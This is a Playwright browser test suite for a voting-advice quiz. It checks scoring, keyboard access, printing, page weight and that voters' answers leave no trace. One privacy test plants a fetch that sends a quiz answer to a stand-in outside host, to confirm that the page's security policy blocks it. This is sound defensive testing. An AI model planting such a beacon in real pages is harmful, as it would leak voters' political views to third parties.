"""The quiz in a real browser: it says what `cmpgen match` says, to everyone, and tells nobody."""

from __future__ import annotations

import datetime
import gzip
import random
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route

from cmpgen.scores.match import Voter
from tests.browser.quizzing import answer, compare, compiled, open_quiz, shown
from tests.helpers import ROOT, build_site, write_project

Served = Callable[[Path], str]


@pytest.mark.parametrize("language", ["", "fr/"])
@pytest.mark.parametrize("constituency", ["alder-vale", "high-orchards"])
def test_the_page_says_what_match_says(
    page: Page, served: Served, example_site: Path, constituency: str, language: str
) -> None:
    compare(page, served(example_site), compiled(ROOT), constituency, 10, language)


def test_nothing_is_chosen_beforehand_and_a_voter_who_skips_everything_gets_no_ranking(
    page: Page, served: Served, example_site: Path
) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    assert page.locator("input:checked").count() == 0
    for skip in page.locator(".choice--skip input").all():
        skip.check()

    assert page.locator(".result").count() == 0
    assert page.locator("[data-slot=nothing]").is_visible()
    assert not page.locator("[data-slot=summary]").is_visible()


def test_one_answer_is_compared_and_can_be_taken_back(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    page.locator("fieldset").first.locator("label").first.click()
    some = shown(page)
    page.locator("fieldset").first.locator(".choice--skip").click()
    none = shown(page)

    assert some["results"] and all(each["answered"] == 1 for each in some["results"] + some["apart"])
    assert none == {"results": [], "apart": []}


def test_an_open_breakdown_stays_open_and_right_when_an_answer_changes(
    page: Page, served: Served, example_site: Path
) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    first = page.locator("fieldset").first
    first.locator("label").nth(0).click()
    page.locator('.result[data-candidate="ada-obi"] summary').click()
    mine = page.locator('.result[data-candidate="ada-obi"] [data-slot="mine"]')
    assert mine.all_inner_texts() == ["Strongly disagree"]

    first.locator("label").nth(3).click()

    assert mine.all_inner_texts() == ["Agree"]


def test_a_question_of_a_score_leads_back_to_its_answer(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    answer(page, Voter({"free-buses": 0, "new-stadium": 1}))

    page.locator('.result .part[data-question="new-stadium"] a').first.click()

    assert page.evaluate("document.activeElement.dataset.question") == "new-stadium"
    page.go_back()
    assert page.evaluate("document.querySelector('#results').getBoundingClientRect().top < innerHeight")


def test_compare_leads_to_the_results(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    for _ in range(2):
        page.locator(".quiz__bar a").click()

        assert page.evaluate("document.activeElement.id") == "results"
        page.locator("fieldset").first.locator("label").first.click()


def test_a_changed_comparison_is_said_once_and_only_to_who_has_been_there(
    page: Page, served: Served, example_site: Path
) -> None:
    page.clock.install()
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    page.clock.pause_at(datetime.datetime.now() + datetime.timedelta(hours=1))
    labels = page.locator("fieldset").first.locator("label")
    news = page.locator("#results [role=status]")

    def said_after_an_answer(number: int) -> str:
        labels.nth(number).click()
        page.clock.run_for(2000)
        return news.inner_text()

    before = said_after_an_answer(0)
    page.locator(".quiz__bar a").click()
    labels.nth(1).click()
    at_once = news.inner_text()
    page.clock.run_for(2000)

    assert (before, at_once, news.inner_text()) == ("", "", "The comparison has changed.")
    assert page.locator("[role=status], [aria-live]").count() == 1


def test_all_answers_are_taken_back_in_two_steps(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    answer(page, Voter({"free-buses": 0, "new-stadium": 1}, {"free-buses": 2}))
    assert not page.locator("[data-slot=clear]").is_visible()

    page.locator(".results__end summary").click()
    page.locator("[data-slot=clear]").click()

    assert page.locator("input:checked").count() == 0 and page.locator(".result").count() == 0
    assert set(page.locator("form select").evaluate_all("all => all.map((each) => each.value)")) == {"1"}
    assert page.evaluate("document.activeElement === document.querySelector('fieldset')")
    assert not page.locator("[data-slot=clear]").is_visible()


def test_who_is_not_compared_is_told_above_the_ranking_with_the_reasons(
    page: Page, served: Served, tmp_path: Path
) -> None:
    people = {
        "ada": "reply: answered\nanswers:\n  free-buses: agree\n  new-stadium: agree\n",
        "bo": "reply: answered\nanswers:\n  school-language: both\n",
        "cy": "reply: declined\n",
        "di": "reply: declined\n",
        "eve": "status: withdrawn\n",
    }
    files = {f"candidates/demo/north/{id_}.yaml": f"name: {id_}\n{rest}" for id_, rest in people.items()}
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    open_quiz(page, f"{served(site)}/demo/north/quiz/")

    answer(page, Voter({"free-buses": 3, "new-stadium": 3}))

    summary = page.locator("[data-slot=summary]")
    assert " ".join(summary.inner_text().split()) == (
        "Your answers are compared with those of 1 of 5 candidates. "
        "Not compared, with a known position on fewer than 50% of the questions you answered: 1. "
        "Not compared, with no known position: 2. Not compared, having withdrawn: 1."
    )
    assert summary.bounding_box()["y"] < page.locator(".result").first.bounding_box()["y"]


def test_where_the_answers_cannot_be_loaded_one_can_try_again_and_keeps_what_was_chosen(
    browser: Browser, served: Served, example_site: Path
) -> None:
    page = browser.new_page()
    page.route("**/quiz.json", lambda route: route.abort(), times=1)
    page.goto(f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    page.locator("[data-slot=unreachable]").wait_for(state="visible")
    page.locator("fieldset").first.locator("label").first.click()

    page.locator("[data-slot=again]").click()
    page.locator(".result").first.wait_for(state="visible")

    assert not page.locator("[data-slot=unreachable]").is_visible()
    page.context.close()


def seen_on_paper(page: Page, selector: str) -> bool:
    return any(each.is_visible() for each in page.locator(selector).all())


def test_the_printed_quiz_is_a_sheet_of_questions(
    new_page: Callable[..., Page], served: Served, example_site: Path
) -> None:
    for scripted in (True, False):
        page = new_page(java_script_enabled=scripted)
        page.goto(f"{served(example_site)}/riverland-2027/north-bank/quiz/", wait_until="networkidle")
        page.emulate_media(media="print")

        shown_there = page.locator("main").inner_text()
        boxes = page.locator(".choice:not(.choice--skip) .choice__input")
        assert boxes.count() > 60 and page.locator(".choice__input:visible").count() == boxes.count()
        assert "https://riverland.example.org/riverland-2027/north-bank/quiz/" in shown_there
        for leftover in (".quiz__bar", "#results", ".choice--skip", "select", "summary", "noscript *", ".button"):
            assert not seen_on_paper(page, leftover), leftover


def test_a_quiz_is_printed_with_its_answers_weights_and_results(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    answer(page, Voter({"free-buses": 0, "new-stadium": 1}, {"free-buses": 2}))

    page.emulate_media(media="print")

    assert page.locator("select:visible").count() == 1
    assert page.locator(".result:visible").count() == 7 and page.locator(".part").first.is_visible()
    assert not seen_on_paper(page, ".quiz__bar, .results__end, .choice--skip")


def test_on_a_low_screen_the_bar_stands_still(page: Page, served: Served, example_site: Path) -> None:
    page.set_viewport_size({"width": 320, "height": 256})

    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    assert page.evaluate("getComputedStyle(document.querySelector('.quiz__bar')).position") == "static"


def test_the_quiz_can_be_done_with_the_keyboard_alone(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/high-orchards/quiz/")
    questions = page.locator("fieldset").count()

    for _ in range(400):
        page.keyboard.press("Tab")
        focused = page.evaluate("[document.activeElement.type, document.activeElement.getAttribute('href')]")
        if focused[0] == "radio":
            page.keyboard.press("Space")
            page.keyboard.press("ArrowDown")
        if focused[1] == "#results":
            page.keyboard.press("Enter")
            break
    focused_in_results = page.evaluate("document.activeElement.closest('#results') !== null")
    for _ in range(30):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.matches('.result summary')"):
            page.keyboard.press("Enter")
            break
    page.wait_for_selector(".result .part")

    assert focused_in_results
    assert page.locator("input:checked").count() == questions
    assert page.locator(".result details[open] .part").count() == questions


def test_nothing_that_is_focused_hides_behind_the_bar(page: Page, served: Served, example_site: Path) -> None:
    page.set_viewport_size({"width": 360, "height": 640})
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    hidden = []
    for _ in range(60):
        page.keyboard.press("Tab")
        hidden.append(
            page.evaluate("""() => {
              const bar = document.querySelector(".quiz__bar").getBoundingClientRect();
              const focused = document.activeElement;
              const box = (focused.closest("label") ?? focused).getBoundingClientRect();
              return !focused.closest(".quiz__bar") && focused.closest("form") !== null && box.bottom > bar.top + 1;
            }""")
        )

    assert not any(hidden)


def requests_of(page: Page, address: str, option: int) -> list[str]:
    """Everything that a visit asks for in which the voter takes one option everywhere."""
    log: list[str] = []
    page.on("request", lambda request: log.append(f"{request.method} {request.url} {request.post_data}"))
    open_quiz(page, address)
    for question in page.locator("fieldset").all():
        question.locator("input").nth(option).check()
    for summary in page.locator(".result summary").all():
        summary.click()
    page.wait_for_timeout(200)
    return log


def test_two_voters_of_opposite_views_ask_for_the_same_and_leave_nothing_behind(
    new_page: Callable[..., Page], served: Served, example_site: Path
) -> None:
    address = f"{served(example_site)}/riverland-2027/high-orchards/quiz/"
    first, second = new_page(), new_page()

    one, other = requests_of(first, address, 0), requests_of(second, address, 1)

    # A browser asks for the icon when it likes.
    assert sorted(one) == sorted(other) and len(one) > 3
    for page in (first, second):
        assert page.context.cookies() == []
        kept = page.evaluate("[localStorage.length, sessionStorage.length, location.search, location.hash]")
        assert kept == [0, 0, "", ""]
        assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0


def test_the_watch_on_requests_sees_a_planted_one(browser: Browser, served: Served, example_site: Path) -> None:
    log: dict[bool, list[str]] = {True: [], False: []}
    for without_policy, asked in log.items():
        page = browser.new_context(bypass_csp=without_policy).new_page()
        page.on("request", lambda each, asked=asked: asked.append(each.url))
        page.route("http://stranger.test/**", lambda route: route.abort())
        page.goto(f"{served(example_site)}/riverland-2027/high-orchards/")
        page.evaluate("fetch('http://stranger.test/?answer=agree').catch(() => null)")
        page.context.close()

    # The page's policy stops it before it leaves; without the policy the watch sees it.
    assert not any("stranger.test" in each for each in log[False])
    assert "http://stranger.test/?answer=agree" in log[True]


def test_data_of_another_generation_is_not_scored_with(page: Page, served: Served, example_site: Path) -> None:
    def older(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, json={**response.json(), "generation": "0000000000000000"})

    page.route("**/quiz.json", older)
    page.goto(f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    page.locator("[data-slot=outdated]").wait_for(state="visible")

    assert not page.locator("#results").is_visible()


def test_without_javascript_the_questions_can_be_read_and_the_way_to_the_answers_is_told(
    new_page: Callable[..., Page], served: Served, example_site: Path
) -> None:
    page = new_page(java_script_enabled=False)

    page.goto(f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    assert page.locator("fieldset").count() == 15
    assert page.locator("noscript a").get_attribute("href") == "../../../riverland-2027/north-bank/#answers"
    assert not page.locator(".quiz__bar").is_visible() and not page.locator("#results").is_visible()


def candidates(count: int, answers: str) -> dict[str, str]:
    """That many candidates of the north, each with these lines below `answers:`."""
    return {
        f"candidates/demo/north/c{number:02}.yaml": f"name: Candidate {number}\nreply: answered\nanswers:\n{answers}"
        for number in range(count)
    }


@pytest.mark.parametrize(
    ("count", "answers", "ranked", "apart"),
    [
        pytest.param(1, "  free-buses: agree\n", 1, 0, id="one candidate"),
        pytest.param(3, "", 0, 3, id="no answers at all"),
        pytest.param(40, "  free-buses: agree\n", 40, 0, id="forty candidates, all tied"),
    ],
)
def test_a_constituency_of_any_size_has_a_sensible_quiz(
    page: Page, served: Served, tmp_path: Path, count: int, answers: str, ranked: int, apart: int
) -> None:
    project = write_project(tmp_path / "project", candidates(count, answers))
    site = build_site(project, tmp_path / "site")

    open_quiz(page, f"{served(site)}/demo/north/quiz/")
    answer(page, Voter({"free-buses": 3}))

    outcome = shown(page)
    assert len(outcome["results"]) == ranked and len(outcome["apart"]) == apart
    assert {each["rank"] for each in outcome["results"]} <= {1}
    assert all(each["tied"] == (ranked > 1) for each in outcome["results"])
    page.goto(f"{served(site)}/demo/north/")
    assert page.locator(".card").count() == count
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_constituency_without_candidates_says_so(page: Page, served: Served, tmp_path: Path) -> None:
    site = build_site(write_project(tmp_path / "project", {}), tmp_path / "site")

    page.goto(f"{served(site)}/demo/north/quiz/")

    assert page.locator(".notice").count() == 1 and page.locator("fieldset").count() == 0


def test_the_quiz_of_eight_candidates_and_thirty_questions_weighs_at_most_60_kb(tmp_path: Path) -> None:
    chance = random.Random(8)
    words = (ROOT / "content/pages/about.md").read_text(encoding="utf-8").split()

    def prose(length: int) -> str:
        return re.sub(r"[^\w ,.]", "", " ".join(chance.choices(words, k=length))).replace("_", "")

    questions = "".join(
        f"- id: question-{number}\n  topic: transport\n  text: |\n    {prose(12)}\n  background: |\n    {prose(40)}\n"
        for number in range(30)
    )
    options = ["strongly-disagree", "disagree", "neutral", "agree", "strongly-agree"]
    standing = {
        f"candidates/demo/south/c{candidate}.yaml": f"name: Candidate {candidate}\nreply: answered\nanswers:\n"
        + "".join(
            f"  question-{number}:\n    position: {chance.choice(options)}\n    comment: |\n      {prose(25)}\n"
            if chance.random() < 0.4
            else f"  question-{number}: {chance.choice(options)}\n"
            for number in range(30)
        )
        for candidate in range(8)
    }
    files = {"questionnaires/demo/questions.yaml": questions, **standing}
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    quiz = site / "demo/south/quiz"
    scripts = (site / "static/js").glob("*.js")

    parts = [quiz / "index.html", quiz / "quiz.json", site / "static/css/main.css", *scripts]
    weight = sum(len(gzip.compress(part.read_bytes(), 6)) for part in parts)

    assert weight <= 60_000
